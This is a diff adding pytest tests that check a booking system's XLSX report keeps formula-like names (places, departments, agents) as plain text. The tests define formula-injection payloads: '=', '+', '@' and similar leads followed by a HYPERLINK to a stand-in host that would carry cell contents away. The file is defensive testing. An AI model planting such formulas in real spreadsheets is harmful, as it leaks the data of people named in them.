@@ -11,7 +11,7 @@ from openpyxl import load_workbook
 from sqlalchemy import select
 
 from backend.errors import Forbidden, InvalidInput
-from backend.models import Booking, Case, Citizen, Place, ServiceItem, Slot, Staff
+from backend.models import Booking, Case, Citizen, Department, Place, ServiceItem, Slot, Staff
 from backend.services import cases
 from backend.services.catalog import import_catalog
 from backend.services.scope import SYSTEM
@@ -278,3 +278,80 @@ def test_a_case_counts_in_the_period_of_its_local_day(session, data):
     report = report_for(session, data["admin1"])
     assert report.total.cases == 7
     assert session.scalar(select(Staff).where(Staff.username == "agent1")) is not None
+
+
+# Formula injection (issue 21): names typed by people reach the inspector's spreadsheet. -------
+
+# What a spreadsheet may read as the start of a formula, each followed by a link that would
+# carry the sheet's figures away, and a name that reads as an error value: each must arrive as
+# the text it is.
+LEADS = ("=", "+", "-", "@", "\t", "\r", "\n")
+LINK = 'HYPERLINK("http://e.x/?d="&C2,"详情")'
+HOSTILE = [lead + LINK for lead in LEADS] + ["#N/A"]
+
+
+def sheet_xml(content: bytes, title: str) -> str:
+    """The XML of one sheet of the workbook, as Excel reads it."""
+    import re
+    import zipfile
+    with zipfile.ZipFile(BytesIO(content)) as archive:
+        book = archive.read("xl/workbook.xml").decode()
+        rels = archive.read("xl/_rels/workbook.xml.rels").decode()
+        rel_id = re.search(rf'<sheet [^>]*name="{re.escape(title)}"[^>]*r:id="([^"]+)"', book)[1]
+        target = re.search(rf'<Relationship [^>]*Id="{rel_id}"[^>]*Target="([^"]+)"', rels)
+        if target is None:
+            target = re.search(rf'<Relationship [^>]*Target="([^"]+)"[^>]*Id="{rel_id}"', rels)
+        return archive.read("xl/" + target[1].lstrip("/").removeprefix("xl/")).decode()
+
+
+@pytest.fixture
+def hostile_names(session, data):
+    """Every place, department and agent renamed to text that starts like a formula."""
+    renamed = {}
+    rows = [*session.scalars(select(Place).order_by(Place.code)),
+            *session.scalars(select(Department).order_by(Department.code)),
+            *session.scalars(select(Staff).where(Staff.role == "agent")
+                             .order_by(Staff.username))]
+    for n, row in enumerate(rows):
+        row.name = renamed[row.code if hasattr(row, "code") else row.username] = (
+            HOSTILE[n % len(HOSTILE)])
+    session.commit()
+    return renamed
+
+
+@pytest.mark.parametrize("sheet", [SUMMARY_SHEET, "服务场所", "部门", "帮办代办员",
+                                   DEFINITIONS_SHEET])
+def test_every_text_cell_of_the_xlsx_is_text_whatever_it_begins_with(session, data,
+                                                                     hostile_names, sheet):
+    # A place manager's summary names their places: text of theirs in that sheet too.
+    reader = data["manager_hall"] if sheet == SUMMARY_SHEET else data["admin1"]
+    content, _ = report_xlsx(report_for(session, reader, min_cases=1))
+
+    xml = sheet_xml(content, sheet)
+    assert "<f>" not in xml and "<f " not in xml and 't="e"' not in xml
+    cells = [c for row in load_workbook(BytesIO(content))[sheet].iter_rows() for c in row
+             if isinstance(c.value, str)]
+    assert cells
+    for cell in cells:
+        assert cell.data_type == "s", (cell.coordinate, cell.value)
+        # Kept as text in the spreadsheet's own editor too (a quote prefix, not in the value).
+        assert bool(cell.quotePrefix) == cell.value.startswith(LEADS), cell.coordinate
+    written = {c.value for c in cells}
+    # XML reads a carriage return back as a line feed (its line-end rule); the text is the same.
+    hostile_names = {k: v.replace("\r", "\n") for k, v in hostile_names.items()}
+    if sheet in ("服务场所", "部门", "帮办代办员"):
+        section = next(s for s in report_for(session, reader, min_cases=1).sections
+                       if s.label == sheet)
+        names = {u.name.replace("\r", "\n") for u in section.ranked + section.insufficient}
+        assert names and names <= written and names <= set(hostile_names.values())
+    elif sheet == SUMMARY_SHEET:
+        assert hostile_names["BS-HALL"] in written  # the scope's label: the manager's place
+
+
+def test_text_an_xlsx_cannot_hold_is_left_out_not_an_error(session, data):
+    data["agent1"].name = "李\x01帮办\x1f"
+    session.commit()
+    content, _ = report_xlsx(report_for(session, data["admin1"], min_cases=1))
+    names = {row[2] for row in load_workbook(BytesIO(content))["帮办代办员"].iter_rows(
+        min_row=2, values_only=True)}
+    assert "李帮办" in names
